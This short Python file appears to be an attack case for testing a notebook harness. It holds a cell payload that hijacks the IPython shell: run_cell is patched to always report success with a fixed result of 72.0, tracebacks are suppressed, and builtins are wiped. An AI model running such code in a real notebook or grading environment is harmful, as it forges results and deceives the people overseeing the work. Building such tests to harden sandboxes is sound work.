"""Replace what the IPython shell runs cells with. Success: later cells, or their results, are the attacker's."""

CELL = '''
shell = get_ipython()


class Result:
    success, error_in_exec, error_before_exec, result = True, None, None, 72.0


type(shell).run_cell = lambda self, *args, **kwargs: Result()
shell.run_cell = lambda *args, **kwargs: Result()
type(shell).showtraceback = lambda *args, **kwargs: None
shell.user_ns["__builtins__"] = {}
'''
